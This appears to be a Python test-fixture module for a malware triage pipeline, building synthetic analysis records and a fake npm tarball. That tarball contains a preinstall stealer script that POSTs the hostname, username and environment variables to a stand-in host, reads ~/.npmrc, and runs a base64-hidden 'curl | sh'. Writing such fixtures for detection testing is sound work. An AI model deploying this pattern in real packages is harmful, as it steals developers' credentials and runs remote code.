"""Realistic triage data recorded as the pipeline records it (``pipeline.ingest``).

Synthetic: the evidence imitates what the engine reports on typical malware
(install hooks, exfiltration URLs), never corpus code.
"""

from __future__ import annotations

import io
import json
import tarfile
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import cache
from hashlib import sha256
from typing import Any

from sqlalchemy.orm import Session

from threatfeed.analysis import Analysis, Engine, Location
from threatfeed.pipeline.ingest import ArchiveRecord, record_analysis
from threatfeed.store import Database

PUBLISHED = datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)

HOOK_INDICATORS: dict[str, Any] = {
    "npm_hooks_rule": ["node index.js"],
    "suspicious_url_references_rule": [
        {"file": "package/index.js", "urls": ["https://exfil.example.invalid/c"]}
    ],
}


@dataclass(frozen=True)
class Sample:
    name: str
    version: str = "1.0.0"
    ecosystem: str = "npm"
    score: float = 0.9
    flagged: bool = True
    indicators: dict[str, Any] = field(default_factory=lambda: dict(HOOK_INDICATORS))
    files: tuple[tuple[str, int], ...] = (
        ("package/package.json", 312),
        ("package/index.js", 2345),
        ("package/README.md", 410),
    )
    archive: str | None = None
    engine_version: str = "test-1"
    published_at: datetime | None = PUBLISHED
    url: str | None = None
    locations: tuple[Location, ...] = (
        Location("npm_hooks_rule", "package/package.json", 6, '"preinstall": "node index.js"'),
        Location(
            "suspicious_url_references_rule",
            "package/index.js",
            12,
            "fetch('https://exfil.example.invalid/c', {method: 'POST', body: env})",
        ),
    )

    @property
    def filename(self) -> str:
        return self.archive or f"{self.name.replace('/', '-')}-{self.version}.tgz"


def record(session: Session, sample: Sample) -> int:
    """Records one analysed archive of the sample; returns the package id."""
    digest = sha256(f"{sample.ecosystem}/{sample.filename}".encode()).hexdigest()
    archive = ArchiveRecord(
        ecosystem=sample.ecosystem,
        name=sample.name,
        version=sample.version,
        filename=sample.filename,
        sha256=digest,
        size=sum(size for _, size in sample.files),
        published_at=sample.published_at,
        url=sample.url or f"https://registry.example.invalid/{sample.name}/-/{sample.filename}",
    )
    analysis = Analysis(
        ecosystem=sample.ecosystem,
        name=sample.name,
        version=sample.version,
        sha256=digest,
        score=sample.score,
        flagged=sample.flagged,
        indicators=sample.indicators,
        locations=sample.locations,
        errors=(),
        files=sample.files,
        engine_version=sample.engine_version,
    )
    return record_analysis(session, archive, analysis).package_id


def add(database: Database, *samples: Sample) -> list[int]:
    with database.session() as session:
        return [record(session, sample) for sample in samples]


def hook_archive(name: str, version: str, host: str = "oast.example.invalid") -> bytes:
    """A small npm tarball shaped like a typical install-time stealer (synthetic, inert)."""
    manifest = json.dumps(
        {"name": name, "version": version, "scripts": {"preinstall": "node index.js"}}
    ).encode()
    script = (
        "const os=require('os');const https=require('https');\n"
        "const data=JSON.stringify({h:os.hostname(),u:os.userInfo().username,e:process.env});\n"
        f"const req=https.request({{hostname:'{host}',path:'/c',method:'POST'}});"
        "req.write(data);req.end();\n"
        "const fs=require('fs');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');\n"
        "require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vb2FzdC5leGFtcGxlLmludmFsaWQv"
        "cyB8IHNo','base64').toString());\n"
    ).encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, data in (("package/package.json", manifest), ("package/index.js", script)):
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@cache
def _engine() -> Engine:
    return Engine()


def record_archive(
    session: Session,
    name: str,
    version: str,
    data: bytes,
    ecosystem: str = "npm",
    published_at: datetime | None = PUBLISHED,
) -> int:
    """Analyses real archive bytes with the engine and records them as the pipeline does."""
    analysis = _engine().analyze(data)
    filename = f"{name.rsplit('/', 1)[-1]}-{version}.tgz"
    archive = ArchiveRecord(
        ecosystem, name, version, filename, analysis.sha256, len(data), published_at
    )
    return record_analysis(session, archive, analysis).package_id
